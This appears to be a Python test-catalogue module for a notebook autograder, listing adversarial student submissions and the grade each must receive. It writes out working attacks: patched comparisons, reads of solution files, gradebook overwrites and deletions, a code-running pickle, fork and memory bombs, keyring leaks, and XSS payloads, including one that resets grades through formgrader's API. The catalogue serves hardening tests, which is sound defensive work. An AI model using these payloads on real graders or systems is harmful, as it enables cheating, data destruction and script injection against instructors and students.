"""The catalogue of adversarial and faulty submissions (issue 6), applied to a real lesson.

Each entry attacks the lesson's *target*: its first answer whose test has hidden checks. Attack
code is written generically, with placeholders filled in per lesson and per run:

    {name}           the target answer's name (its grade_id)
    {solution}       the target's code in the instructor's solution
    {visible_calls}  how many times the visible checks call the target
    {solution_file}  the instructor's notebook      {course}    the instructor's course folder
    {gradebook}      the gradebook file             {other}     another student's submission folder
    {port}           a local web server that hands out the solution's code
    {marker}         a file the grader would create if it ever unpickled the student's data

`expect` says what grading must give:
    "target-zero"  the target's tests score 0 and every other test scores what it scores when the
                   target is simply left unanswered (exactly, or at most that when `exact` is False:
                   an attack that breaks the student's own kernel may cost them more);
    "full"         every point (correct answers; the attack or fault must not cost any);
    "nothing"      the notebook cannot be read: 0 points, every check "not-run", a problem saying
                   why.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Callable, Literal

from mlcourse.lessons import Lesson, parse_lesson

WRONG = "\ndef {name}(*args, **kwargs):\n    return -12345.0\n"
FORGED_ID = "x`\n\n## Late submissions\n\nNone.\n\n<!-- everything below is hidden"


@dataclass
class Entry:
    name: str
    covers: str
    expect: Literal["target-zero", "full", "nothing"]
    answer: str | None = None  # the target's answer cell
    edit: Callable | None = None  # edit(notebook, target) changes the cells of the submitted copy
    raw: bytes | None = None  # the submitted file's bytes, instead of a notebook
    files: dict[str, str] = field(default_factory=dict)  # extra files beside the notebook
    symlink: bool = False  # the notebook is a link to the instructor's notebook
    exact: bool = True


def _cells(notebook, target: str, kind: str) -> list:
    """The target's answer cell ("answer") or its test cells ("test") in a notebook."""
    kinds = parse_lesson(notebook, "target").cells
    if kind == "answer":
        return [c for c, meta in zip(notebook.cells, kinds) if meta.kind == "answer"
                and meta.grade_id == target]
    return [c for c, meta in zip(notebook.cells, kinds) if meta.kind == "test"
            and target in c.source]


def _edit_test(change: Callable) -> Callable:
    def edit(notebook, target):
        cell = _cells(notebook, target, "test")[0]
        notebook.cells[notebook.cells.index(cell):notebook.cells.index(cell) + 1] = change(cell)
    return edit


def _copy(cell, **changes):
    new = json.loads(json.dumps(cell))
    new.update(changes)
    return type(cell)(new)


def _markdown(cell):
    new = {k: v for k, v in json.loads(json.dumps(cell)).items()
           if k not in ("outputs", "execution_count")}
    return type(cell)({**new, "cell_type": "markdown"})


def _with_grade_id(cell, grade_id: str):
    new = _copy(cell)
    new["metadata"]["nbgrader"]["grade_id"] = grade_id
    return type(cell)(new)


def _split(cell):
    lines = cell.source.splitlines()
    return [_copy(cell, source="\n".join(lines[:1])), _copy(cell, source="\n".join(lines[1:]))]


def _stray_metadata(notebook, target):
    answer = _cells(notebook, target, "answer")[0]
    answer.metadata.nbgrader.update(grade=True, points=100)
    bonus = _copy(answer, source="pass")
    bonus["metadata"]["nbgrader"] = {"grade": True, "solution": False, "locked": True,
                                     "points": 100, "grade_id": "test_bonus", "schema_version": 3}
    notebook.cells.append(type(answer)(bonus))


def _edit_setup(notebook, target):
    setup = next(c for c, meta in zip(notebook.cells, parse_lesson(notebook, "target").cells)
                 if meta.kind == "setup")
    setup.source += ("\nimport numpy\n"
                     "numpy.isclose = lambda a, b, **k: numpy.ones(numpy.shape(b), bool)\n")


def _duplicate_answer(notebook, target):
    cell = _cells(notebook, target, "answer")[0]
    wrong = _copy(cell, source=WRONG.format(name=target))
    notebook.cells.insert(notebook.cells.index(cell), type(cell)(wrong))


def _forged_report(notebook, target):
    """A cell whose grade id is Markdown: a fake "Late submissions" section and an opened HTML
    comment that would hide every later line of the report, were ids written into it unescaped."""
    cell = _copy(_cells(notebook, target, "answer")[0], source="pass")
    cell["metadata"]["nbgrader"] = {"grade_id": FORGED_ID, "solution": False, "grade": False,
                                    "locked": False}
    notebook.cells.append(type(notebook.cells[0])(cell))


def _answer_to_markdown(notebook, target):
    cell = _cells(notebook, target, "answer")[0]
    notebook.cells[notebook.cells.index(cell)] = _markdown(cell)


def _delete_answer(notebook, target):
    notebook.cells.remove(_cells(notebook, target, "answer")[0])


ENTRIES: list[Entry] = [
    # --- comparisons and library functions patched in the student's kernel ------------------------
    Entry("patch-numpy-compare",
          "replaces numpy's allclose, isclose, array_equal and testing asserts", "target-zero",
          "import numpy\nnumpy.allclose = numpy.array_equal = lambda *a, **k: True\n"
          "numpy.isclose = lambda a, b, **k: numpy.ones(numpy.shape(b), bool)\n"
          "numpy.testing.assert_allclose = lambda *a, **k: None\n" + WRONG),
    Entry("patch-torch-compare",
          "replaces torch's allclose, isclose, equal and testing.assert_close", "target-zero",
          "import torch\ntorch.allclose = torch.equal = lambda *a, **k: True\n"
          "torch.isclose = lambda a, b, **k: torch.ones_like(torch.as_tensor(b), "
          "dtype=torch.bool)\n"
          "torch.testing.assert_close = lambda *a, **k: None\n" + WRONG),
    Entry("patch-math", "replaces math.isclose and math.log", "target-zero",
          "import math\nmath.isclose = lambda *a, **k: True\nmath.log = lambda *a: 0.0\n" + WRONG,
          exact=False),
    Entry("patch-reference-functions",
          "replaces the library functions a test uses for references (numpy.log, "
          "numpy.sum, torch.log_softmax, mlcourse.checking)", "target-zero",
          "import numpy, torch, mlcourse.checking as c\n"
          "numpy.log = numpy.sum = lambda *a, **k: -12345.0\n"
          "torch.log_softmax = lambda *a, **k: -12345.0\n"
          "c.expect_close = c.expect_equal = c.expect_choice = lambda *a, **k: None\n"
          "c.reference = lambda *a, **k: (lambda *a, **k: -12345.0)\n" + WRONG, exact=False),
    Entry("always-equal-object", "returns an object whose comparisons always pass", "target-zero",
          "class Anything(float):\n    __eq__ = __le__ = __ge__ = lambda self, other: True\n"
          "    __ne__ = __lt__ = __gt__ = lambda self, other: False\n"
          "    __hash__ = float.__hash__\n"
          "    def __abs__(self): return 0.0\n    def __sub__(self, other): return 0.0\n"
          "    __rsub__ = __sub__\n"
          "    def __array__(self, *a, **k):\n        import numpy; return numpy.zeros(())\n"
          "def {name}(*args, **kwargs):\n    return Anything(0.0)\n"),
    Entry("always-equal-tensor", "returns a tensor subclass whose comparisons always pass",
          "target-zero", "import torch\nclass Tensor(torch.Tensor):\n    __module__ = 'torch'\n"
          "    @classmethod\n    def __torch_function__(cls, func, types, args=(), kwargs=None):\n"
          "        return True if func.__name__ in ('allclose', 'equal', '__eq__', 'isclose') else "
          "super().__torch_function__(func, types, args, kwargs or {{}})\n"
          "def {name}(*args, **kwargs):\n    return torch.zeros(()).as_subclass(Tensor)\n"),
    # --- IPython machinery, tracing, the test's own source ----------------------------------------
    Entry("ast-transformer", "registers an IPython AST transformer that removes asserts and checks",
          "target-zero",
          "import ast\nclass Strip(ast.NodeTransformer):\n"
          "    def visit_Assert(self, node): return None\n"
          "    def visit_Expr(self, node): return None\n"
          "get_ipython().ast_transformers.append(Strip())\n" + WRONG, exact=False),
    Entry("input-transformer",
          "registers an IPython input transformer that blanks every later cell", "target-zero",
          WRONG + "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])\n",
          exact=False),
    Entry("settrace", "installs sys.settrace and a profile hook that skip the checks' lines",
          "target-zero", "import sys, threading\ndef tracer(frame, event, arg):\n"
          "    if 'expect' in frame.f_code.co_name or 'check' in frame.f_code.co_name: raise "
          "SystemExit\n"
          "    return tracer\nsys.settrace(tracer)\nsys.setprofile(tracer)\n"
          "threading.settrace(tracer)\n" + WRONG,
          exact=False),
    Entry("showtraceback",
          "silences IPython's showtraceback and sys.excepthook so failures look like passes",
          "target-zero",
          "import sys\nip = get_ipython()\n"
          "ip.showtraceback = ip._showtraceback = lambda *a, **k: None\n"
          "ip.showsyntaxerror = lambda *a, **k: None\nsys.excepthook = lambda *a: None\n" + WRONG,
          exact=False),
    Entry("read-test-source",
          "reads the running test's source and expected values from _ih, In and the "
          "calling frames", "target-zero",
          "import sys\ndef {name}(*args, **kwargs):\n    frame = sys._getframe(1)\n"
          "    while frame is not None:\n"
          "        for key in ('want', 'expected', 'solution'):\n"
          "            found = frame.f_locals.get(key)\n"
          "            if found is not None:\n"
          "                return found(*args, **kwargs) if callable(found) else found\n"
          "        frame = frame.f_back\n"
          "    history = ' '.join(globals().get('_ih', []) + globals().get('In', []))\n"
          "    return -12345.0 if 'BEGIN HIDDEN' not in history else 0.0\n"),
    Entry("redefine-locked-helper",
          "redefines the checks and reference() imported by the locked setup cell", "target-zero",
          "def expect_close(*a, **k): pass\ndef expect_equal(*a, **k): pass\n"
          "def expect_choice(*a, **k): pass\n"
          "def reference(*a, **k): return lambda *a, **k: -12345.0\n"
          "def standard_misconceptions(*a, **k): return {{}}\n" + WRONG),
    Entry("cached-visible-answers",
          "answers the visible checks correctly (cached) and anything else wrongly", "target-zero",
          "{solution}\n_right = {name}\n_calls = [0]\n"
          "def {name}(*args, **kwargs):\n    _calls[0] += 1\n"
          "    return _right(*args, **kwargs) if _calls[0] <= {visible_calls} else -12345.0\n"),
    Entry("grading-environment",
          "behaves differently when it detects grading (environment variables, "
          "working folder, user)", "target-zero",
          "import os, getpass\nGRADING = any(k.startswith(('NBGRADER', 'AUTOGRADER', 'MLCOURSE')) "
          "for k in os.environ) "
          "or os.getcwd() != os.path.expanduser('~') or os.environ.get('USER') == 'student'\n"
          "if GRADING:\n    from mlcourse.checking import reference\n    try:\n"
          "        {name} = reference('{name}')\n    except Exception:\n"
          "        exec(open('{solution_file}').read())\n"),
    # --- reading and writing what is not the student's --------------------------------------------
    Entry("call-reference", "asks mlcourse.checking.reference() for the solution's function",
          "target-zero", "from mlcourse.checking import reference\n{name} = reference('{name}')\n"),
    Entry("read-solutions", "reads the instructor's notebook from solutions/ and runs its answer",
          "target-zero", "import json\ncells = json.load(open('{solution_file}'))['cells']\n"
          "exec(next(''.join(c['source']) for c in cells if c['metadata'].get('nbgrader', "
          "{{}}).get('grade_id') "
          "== '{name}'))\n"),
    Entry("read-gradebook-and-course", "lists the course folder and reads the gradebook",
          "target-zero",
          "import os\nprint(os.listdir('{course}'))\n"
          "print(open('{gradebook}', 'rb').read()[:100])\n" + WRONG),
    Entry("write-gradebook", "overwrites the gradebook with a score of its own", "target-zero",
          WRONG + "open('{gradebook}', 'wb').write(b'SQLite format 3\\x00 full marks for me')\n"),
    Entry("write-other-student", "overwrites another student's submitted notebook", "target-zero",
          WRONG + "import glob\nfor path in glob.glob('{other}/*.ipynb'):\n"
          "    open(path, 'w').write('{{}}')\n"),
    Entry("delete-files",
          "deletes the instructor's notebooks, the gradebook and other students' folders",
          "target-zero",
          WRONG + "import shutil, os\nfor path in ('{course}/solutions', '{other}'):\n"
          "    shutil.rmtree(path, ignore_errors=True)\ntry:\n    os.remove('{gradebook}')\n"
          "except OSError:\n    pass\n"),
    Entry("network",
          "fetches the solution from a web server on the grading machine and from the internet",
          "target-zero",
          "import urllib.request, socket\ntry:\n"
          "    exec(urllib.request.urlopen('http://127.0.0.1:{port}/', "
          "timeout=3).read().decode())\n"
          "except OSError:\n" + "    def {name}(*args, **kwargs):\n        return -12345.0\n"
          "try:\n    socket.create_connection(('1.1.1.1', 53), timeout=3)\nexcept OSError:\n"
          "    pass\n"),
    Entry("forged-pickle-reply",
          "makes its kernel send the grader a pickle that would run code when loaded",
          "target-zero",
          WRONG + "import gc, pickle, base64, os\nclass Boom:\n    def __reduce__(self):\n"
          "        return (os.system, ('touch {marker}',))\n"
          "payload = base64.b64encode(pickle.dumps(Boom())).decode()\n"
          "for space in [o for o in gc.get_objects() if isinstance(o, dict) and 'Channel' in o and "
          "'encode' in o]:\n"
          "    space['encode'] = lambda obj, **k: {{'__t': 'pickle', 'b64': payload}}\n",
          exact=False),
    Entry("shadowing-files", "ships numpy.py, sitecustomize.py and a .pth file beside the notebook",
          "target-zero", WRONG, files={"numpy.py": "allclose = isclose = lambda *a, **k: True\n",
                        "sitecustomize.py": "import builtins\nbuiltins.AssertionError = "
                                            "SystemExit\n",
                        "evil.pth": "import os; os.system('touch {marker}')\n"}),
    # --- crashes and limits -----------------------------------------------------------------------
    Entry("sys-exit", "calls sys.exit()", "target-zero", "import sys\nsys.exit(0)\n"),
    Entry("os-exit", "calls os._exit()", "target-zero", "import os\nos._exit(0)\n"),
    Entry("segfault", "crashes the interpreter with a segmentation fault", "target-zero",
          "import ctypes\nctypes.string_at(0)\n"),
    Entry("input", "waits for input()", "target-zero", "value = input('your answer? ')\n"),
    Entry("kill-parent", "signals its parent, process 1 and every process it can see",
          "target-zero",
          WRONG + "import os, signal\nfor pid in [os.getppid(), 1, -1] + [int(p) for p in "
          "os.listdir('/proc') "
          "if p.isdigit()]:\n    try:\n        os.kill(pid, signal.SIGKILL) if pid != os.getpid() "
          "else None\n"
          "    except OSError:\n        pass\n"),
    Entry("infinite-loop", "loops forever in its answer cell", "target-zero",
          "while True:\n    pass\n"),
    Entry("loop-ignoring-sigint", "ignores SIGINT and SIGTERM, then loops forever", "target-zero",
          "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
          "signal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
          "while True:\n    pass\n"),
    Entry("loop-when-called", "defines the function, which loops forever when a test calls it",
          "target-zero", "def {name}(*args, **kwargs):\n    while True:\n        pass\n"),
    Entry("fork-flood", "forks until it cannot", "target-zero",
          "import os, time\nwhile True:\n    try:\n        if os.fork() == 0:\n"
          "            time.sleep(60)\n"
          "    except OSError:\n        break\n" + WRONG),
    Entry("thread-flood", "starts threads until it cannot", "target-zero",
          "import threading, time\ntry:\n    while True:\n"
          "        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()\n"
          "except RuntimeError:\n    pass\n"
          + WRONG),
    Entry("memory-bomb", "allocates and touches memory until it cannot", "target-zero",
          "blocks = []\nwhile True:\n    blocks.append(bytearray(64 << 20))\n", exact=False),
    Entry("disk-fill", "writes files until no space is left", "target-zero",
          "import os\nfor folder in ('/tmp', os.getcwd()):\n    for i in range(10 ** 6):\n"
          "        try:\n"
          "            with open(os.path.join(folder, f'fill{{i}}'), 'wb') as f:\n"
          "                f.write(bytes(1 << 20))\n"
          "        except OSError:\n            break\n" + WRONG, exact=False),
    Entry("output-lines", "prints millions of short lines", "target-zero",
          "for i in range(10 ** 8):\n    print(i)\n"),
    Entry("output-one-line", "prints one 20 MB line", "target-zero",
          "print('x' * (20 << 20))\n" + WRONG),
    Entry("output-one-display",
          "displays one 20 MB HTML object and writes 20 MB to the raw stdout fd", "target-zero",
          "from IPython.display import display, HTML\nimport os\n"
          "display(HTML('<b>' + 'y' * (20 << 20) + '</b>'))\n"
          "os.write(1, b'z' * (20 << 20))\n" + WRONG),
    Entry("stderr-warning", "is correct, and warns on stderr (as torch does)", "full",
          "import sys, warnings\n{solution}\n_right = {name}\n"
          "def {name}(*args, **kwargs):\n    warnings.warn('a deprecation warning on stderr')\n"
          "    print('UserWarning: noise', file=sys.stderr)\n    return _right(*args, **kwargs)\n"),
    # --- integrity II: arguments, shared memory, the grader's own limits, text in the report ------
    Entry("mutated-arguments",
          "zeroes the arrays, tensors and lists a test passes in, then answers for the zeroed "
          "values (a test that computed its expectation after the call from its own objects would "
          "agree)",
          "target-zero",
          "{solution}\n_right = {name}\n"
          "def {name}(*args, **kwargs):\n    for a in list(args) + list(kwargs.values()):\n"
          "        try:\n"
          "            a[:] = [0] * len(a) if isinstance(a, list) else 0\n"
          "        except Exception:\n"
          "            pass\n    return _right(*args, **kwargs)\n", exact=False),
    Entry("shared-memory-mmap",
          "maps 3.5 GiB of shared anonymous memory (not counted by RLIMIT_DATA) and touches "
          "it", "target-zero",
          "import mmap\nblock = mmap.mmap(-1, 7 << 29)\nfor i in range(0, len(block), 4096):\n"
          "    block[i] = 1\n"
          + WRONG, exact=False),
    Entry("sysv-shared-memory",
          "creates System V segments of 1.5 GiB, touches and detaches each, and keeps them",
          "target-zero",
          "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
          "libc.shmat.restype = ctypes.c_void_p\n"
          "for _ in range(3):\n    segment = libc.shmget(0, ctypes.c_size_t(3 << 29), 0o1600)\n"
          "    address = libc.shmat(segment, None, 0) if segment >= 0 else None\n"
          "    if address in (None, ctypes.c_void_p(-1).value):\n        break\n"
          "    ctypes.memset(address, 1, 3 << 29)\n    libc.shmdt(ctypes.c_void_p(address))\n"
          + WRONG, exact=False),
    Entry("colliding-dict-keys",
          "returns a dict of 20,000 integer keys that all hash alike (quadratic to build)",
          "target-zero",
          "import sys\ndef {name}(*args, **kwargs):\n"
          "    return {{1 + i * sys.hash_info.modulus: i for i in range(20000)}}\n"),
    Entry("spinning-processes",
          "starts 8 processes that spin on the CPU for a minute, then answers correctly",
          "full", "import os, time\nfor _ in range(8):\n    if os.fork() == 0:\n"
          "        end = time.time() + 60\n"
          "        while time.time() < end:\n            pass\n        os._exit(0)\n{solution}\n",
          exact=False),
    Entry("forged-report",
          "is wrong and adds a cell whose grade id is Markdown: a fake section and an opened "
          "HTML comment", "target-zero", WRONG, edit=_forged_report),
    # --- cell structure ---------------------------------------------------------------------------
    Entry("edited-test-cell", "is wrong and replaces its test cell's code with `pass`",
          "target-zero", WRONG, edit=_edit_test(lambda cell: [_copy(cell, source="pass")])),
    Entry("deleted-test-cell", "is wrong and deletes its test cell", "target-zero", WRONG,
          edit=_edit_test(lambda cell: [])),
    Entry("duplicated-test-cell",
          "is correct, with its test cell duplicated (nbgrader aborts on this)", "full",
          edit=_edit_test(lambda cell: [cell, _copy(cell)])),
    Entry("split-test-cell", "is correct, with its test cell split in two", "full",
          edit=_edit_test(_split)),
    Entry("retyped-test-cell", "is wrong and turns its test cell into markdown", "target-zero",
          WRONG, edit=_edit_test(lambda cell: [_markdown(cell)])),
    Entry("changed-grade-id", "is wrong and renames its test cell's grade id", "target-zero", WRONG,
          edit=_edit_test(lambda cell: [_with_grade_id(cell, "renamed_test")])),
    Entry("stray-metadata", "gives its answer cell 100 points and adds a graded cell of its own",
          "target-zero", WRONG, edit=_stray_metadata),
    Entry("edited-setup-cell", "is wrong and patches numpy in the locked setup cell", "target-zero",
          WRONG, edit=_edit_setup),
    Entry("duplicated-answer-cell", "has its answer cell twice: a wrong copy, then the right one",
          "full", edit=_duplicate_answer),
    Entry("answer-to-markdown", "turns its answer cell into markdown", "target-zero",
          edit=_answer_to_markdown),
    Entry("deleted-answer-cell", "deletes its answer cell", "target-zero", edit=_delete_answer),
    # --- malformed files --------------------------------------------------------------------------
    Entry("invalid-json", "submits a truncated notebook (invalid JSON)", "nothing",
          raw=b'{"cells": [{"cell_type": '),
    Entry("non-utf8", "submits bytes that are not UTF-8", "nothing",
          raw=b'{"cells": [], "x": "\xff\xfe"}'),
    Entry("empty-file", "submits an empty file", "nothing", raw=b""),
    Entry("unreadable-nbformat", "submits a notebook in a format version the tools cannot read",
          "nothing",
          raw=json.dumps({"nbformat": 99, "nbformat_minor": 0, "cells": [],
                          "metadata": {}}).encode()),
    Entry("not-a-notebook", "submits JSON that is not a notebook", "nothing", raw=b"[1, 2, 3]"),
    Entry("symlink-to-solution", "submits a symbolic link to the instructor's notebook", "nothing",
          symlink=True),
]



def _cells_with_own_ids(count: int) -> Callable:
    """An edit adding `count` code cells, each with a grade id of its own that the lesson does not
    know."""
    def edit(notebook, target):
        nbgrader = {"grade": False, "solution": True, "locked": False, "schema_version": 3}
        notebook.cells += [{"cell_type": "code", "id": f"c{i}", "execution_count": None,
                            "outputs": [],
                            "source": "pass",
                            "metadata": {"nbgrader": {**nbgrader, "grade_id": f"cell_{i}"}}}
                           for i in range(count)]
    return edit


# --- one notebook that would bury the report and the grader's time (issue 20) ---------------------
# It is bounded by the notebook.
ENTRIES += [
    Entry("huge-notebook",
          "adds 120,000 cells, each with a grade id of its own (33 MB; not read, and never sent "
          "to a worker)", "nothing", edit=_cells_with_own_ids(120_000)),
    Entry("many-grade-ids",
          "is wrong and adds 20,000 cells, each with a grade id of its own (5 MB)", "target-zero",
          WRONG, edit=_cells_with_own_ids(20_000)),
]


# --- state and devices a kernel could share with a later one or the host (issue 20) ---------------
# System call numbers are x86-64's (add_key 248, keyctl 250, unshare 272, kcmp 312, userfaultfd
# 323). keyring-leave and keyring-find are two apart, so that test_catalogue.py grades them in one
# process, in order.
ENTRIES += [
    Entry("keyring-leave",
          "stores the solution in its session, user and user-session keyrings (add_key), for a "
          "later kernel", "target-zero",
          WRONG + "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
          "answer = {solution!r}.encode()\n"
          "for ring in (-3, -4, -5):\n    libc.syscall(248, b'user', b'left-behind', answer, "
          "len(answer), ring)\n"),
    Entry("unprivileged-syscalls",
          "makes calls an unprivileged process may make unless a seccomp filter denies them (a new "
          "session keyring, userfaultfd, kcmp on itself, a user namespace) and answers correctly "
          "if any succeeds", "target-zero",
          WRONG + "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nme = os.getpid()\n"
          "calls = [(250, 1, 0), (323, 1), (312, me, me, 1, 0, 0), (272, 0x10000000)]\n"
          "if any(libc.syscall(*call) >= 0 for call in calls):\n    exec({solution!r})\n"),
    Entry("keyring-find",
          "looks in its keyrings (keyctl search) for the solution keyring-leave stored, and "
          "answers with it", "target-zero",
          WRONG + "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
          "found = [libc.syscall(250, 10, ring, b'user', b'left-behind', 0)"
          " for ring in (-3, -4, -5)]\n"
          "for key in [key for key in found if key > 0][:1]:\n"
          "    size = libc.syscall(250, 11, key, None, 0)\n"
          "    text = ctypes.create_string_buffer(size)\n"
          "    libc.syscall(250, 11, key, text, size)\n"
          "    exec(text.raw[:size].decode())\n"),
    Entry("pty-flood",
          "opens pseudo-terminals until refused and keeps them; more than the sandbox's 8 would be "
          "the host's, and then it answers correctly", "target-zero",
          WRONG + "import os\nptys = []\ntry:\n    while len(ptys) < 5000:\n"
          "        ptys.append(os.openpty())\n"
          "except OSError:\n    pass\nif len(ptys) > 8:\n    exec({solution!r})\n"),
]

# --- what a student writes that a browser shows (issue 20): nothing of it may run there -----------
# The grade is the engine's either way (these entries); test_browser_xss.py opens what the grader
# wrote from them in Chromium, where each payload that ran would add its name to window.pwned.
def xss(name: str) -> str:
    """JavaScript that records, in the page's window.pwned, that payload `name` ran."""
    return f"window.pwned=(window.pwned||[]).concat(['{name}'])"


# formgrader's API
XSS_ATTACK = ("$.getJSON(base_url+'/api/grades?submission_id='+submission_id)"
              ".then(function(gs){gs.forEach("
              "function(g){$.ajax({url:base_url+'/api/grade/'+g.id,method:'PUT',"
              "contentType:'application/json',"
              "data:JSON.stringify({id:g.id,manual_score:g.max_score})})})});" + xss("attack"))
XSS_MARKDOWN = "\n\n".join([
    "A product of many probabilities underflows; a sum of logs does not: $\\sum_t \\log p_t$ "
    "**stays** finite.",
    f'<img src=x onerror="{xss("img")}">',
    f"<script>{xss('script')}</script>",
    f'<svg onload="{xss("svg")}"><circle r="1"/></svg>',
    '<iframe '
    f'srcdoc="<script>{xss("iframe").replace("window.", "parent.window.")}</script>"></iframe>',
    f'<details open ontoggle="{xss("details")}"><summary>more</summary>text</details>',
    f'<a href="javascript:{xss("link")}">a link</a> and [a Markdown '
    f'link](javascript:{xss("mdlink")})',
    f'<div style="background-image: url(javascript:{xss("style")})">styled</div>',
    f'<object data="data:text/html,<script>{xss("object")}</script>"></object>',
    f'<script type="text/x-mathjax-config">{xss("mathjax-config")}</script>',
    f'<form action="javascript:{xss("form")}"><button>go</button></form>',
    f'<body onload="{xss("body")}"></body> <video><source onerror="{xss("video")}"></video>',
    f"$\\href{{javascript:{xss('mathjax-href')}}}{{x}}$",
    f'<img src=y onerror="{XSS_ATTACK}">',
])
XSS_OUTPUTS = [
    {"output_type": "display_data", "metadata": {},
     "data": {"text/html": f'<img src=x onerror="{xss("html-output")}">',
              "application/javascript": xss("js-output"),
              "image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg" '
                               f'onload="{xss("svg-output")}"/>',
              "text/markdown": f'<img src=x onerror="{xss("markdown-output")}">',
              "text/plain": "a plot"}},
    {"output_type": "display_data",
     "metadata": {"image/png": {"width": f"1 onerror={xss('width')}"}},
     "data": {"image/png": f'x" onerror="{xss("png")}'}},
    {"output_type": "execute_result", "execution_count": 1, "metadata": {},
     "data": {"application/vnd.jupyter.widget-view+json": {"model_id": "m", "version_major": 2,
                                                           "version_minor": 0},
              "text/html": f"<script>{xss('widget-html')}</script>", "text/plain": "a widget"}},
]

XSS_DISPLAYED = {"HTML": f'<img src=x onerror="{xss("html")}">', "Javascript": xss("js"),
                 "Markdown": f"<script>{xss('markdown')}</script>",
                 "SVG": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{xss("svg")}"/>'}
XSS_DISPLAY = ("from IPython.display import HTML, SVG, Javascript, Markdown, display\n"
               "display(" + ", ".join(f"{kind}({text!r})" for kind, text in XSS_DISPLAYED.items())
               + ")\n")


def _markup_everywhere(notebook, target):
    """Every written answer is XSS_MARKDOWN, the target's cell carries XSS_OUTPUTS, and a cell of
    its own has a grade id that is markup (quoted in the problem lines of the feedback and the
    report)."""
    for cell, meta in zip(notebook.cells, parse_lesson(notebook, "target").cells):
        if meta.kind == "written":
            cell.source = XSS_MARKDOWN
    _cells(notebook, target, "answer")[0].outputs = XSS_OUTPUTS
    nbgrader = {"grade": False, "solution": True, "locked": False, "schema_version": 3,
                "grade_id": f'<img src=x onerror="{xss("grade-id")}">'}
    notebook.cells.append({"cell_type": "markdown", "id": "markup",
                           "metadata": {"nbgrader": nbgrader}, "source": XSS_MARKDOWN})


ENTRIES += [
    Entry("markdown-xss",
          "is correct; its written answers are Markdown with script (`<img onerror>`, `<script>`, "
          "`<svg onload>`, `<iframe srcdoc>`, `javascript:` links, a MathJax config block, "
          "formgrader's API), its answer cell carries HTML, JavaScript, SVG, Markdown, image and "
          "widget outputs with script, and a cell's grade id is "
          "markup", "full", edit=_markup_everywhere),
    Entry("output-xss",
          "is correct, and displays HTML, JavaScript, SVG and Markdown with script while graded",
          "full", "{solution}\n" + XSS_DISPLAY),
]


def target_of(lesson: Lesson) -> str:
    """The lesson's first answer whose test cell has hidden checks that call it."""
    return next(a.grade_id for a in lesson.answers
                if any(f"{a.grade_id}(" in t.hidden for t in lesson.tests))


# --- attacks on intake: what a student controls in the submitted folder itself --------------------

@dataclass
class IntakeEntry:
    """An attack planted in SUBMISSIONS as `plant(student_folder, context)`; `expect` is "refused"
    (no point, a reason recorded) or "graded" (the student's own answers count, the trick gains
    nothing)."""

    name: str
    covers: str
    expect: Literal["refused", "graded"]
    plant: Callable


def _link(target_key: str):
    def plant(folder, ctx):
        folder.parent.mkdir(parents=True, exist_ok=True)
        folder.symlink_to(ctx[target_key])
    return plant


def _linked_assignment(folder, ctx):
    folder.mkdir(parents=True)
    (folder / ctx["lesson"]).symlink_to(ctx["solutions"] / ctx["lesson"])


def _linked_notebook(folder, ctx):
    (folder / ctx["lesson"]).mkdir(parents=True)
    (folder / ctx["lesson"] / f"{ctx['lesson']}.ipynb").symlink_to(ctx["classmate"] / ctx["lesson"]
                                                                   / f"{ctx['lesson']}.ipynb")


def _zip(members: dict[str, bytes], corrupt: bool = False):
    def plant(folder, ctx):
        import zipfile

        archive = folder.with_name(folder.name + ".zip")
        archive.parent.mkdir(parents=True, exist_ok=True)
        with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zf:
            for name, data in members.items():
                zf.writestr(name.format(**ctx), data if data else ctx["perfect"])
        if corrupt:  # zeroes inside the first member's deflate stream
            raw = bytearray(archive.read_bytes())
            raw[80:140] = bytes(60)
            archive.write_bytes(bytes(raw))
    return plant


def _far_future_file(folder, ctx):
    import os

    path = folder / ctx["lesson"] / f"{ctx['lesson']}.ipynb"
    path.parent.mkdir(parents=True)
    path.write_bytes(ctx["perfect"])
    # year 33658 where the file system holds it (tmpfs): past datetime's range
    os.utime(path, (1e12, 1e12))


def _backdated_zip(folder, ctx):
    import os

    _zip({"{lesson}/{lesson}.ipynb": b"",
          "{lesson}/timestamp.txt": b"2020-01-01 00:00:00 UTC"})(folder, ctx)
    archive = folder.with_name(folder.name + ".zip")
    os.utime(archive, (1_577_836_800, 1_577_836_800))  # 2020: the archive's own time, backdated too


def _unanswered(perfect: bytes) -> bytes:
    """The perfect notebook with its answer cells as handed out: what a student uploads before
    finishing."""
    notebook = json.loads(perfect)
    for cell in notebook["cells"]:
        if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
            cell["source"] = ("# YOUR CODE HERE\nraise NotImplementedError()"
                              if cell["cell_type"] == "code"
                              else "YOUR ANSWER HERE")
    return json.dumps(notebook).encode()


def _canvas_resubmission(folder, ctx):
    """Canvas's download names a file handed in again <name>-1, -2, ...: by name, -10 comes first
    and the first upload last."""
    name = f"{folder.name}_4242_90001_{ctx['lesson']}"
    for copy, data in (("", _unanswered(ctx["perfect"])), ("-2", _unanswered(ctx["perfect"])),
                       ("-10", ctx["perfect"])):
        (folder.parent / f"{name}{copy}.ipynb").write_bytes(data)


def _folder_and_zip(folder, ctx):
    import zipfile

    notebook = folder / ctx["lesson"] / f"{ctx['lesson']}.ipynb"
    notebook.parent.mkdir(parents=True)
    notebook.write_bytes(ctx["perfect"])
    (notebook.parent / "timestamp.txt").write_text("2026-01-12 12:00:00.000000 UTC")
    with zipfile.ZipFile(folder.with_name(folder.name + ".zip"), "w") as zf:
        zf.writestr(f"{ctx['lesson']}/{ctx['lesson']}.ipynb", _unanswered(ctx["perfect"]))


def _markup_ids(folder, ctx):
    """A folder, a zip and an LMS file, each with a perfect notebook, whose student ids carry
    markup."""
    marked = folder.with_name(folder.name + '"><img src=x onerror=alert(1)>')
    notebook = marked / ctx["lesson"] / f"{ctx['lesson']}.ipynb"
    notebook.parent.mkdir(parents=True)
    notebook.write_bytes(ctx["perfect"])
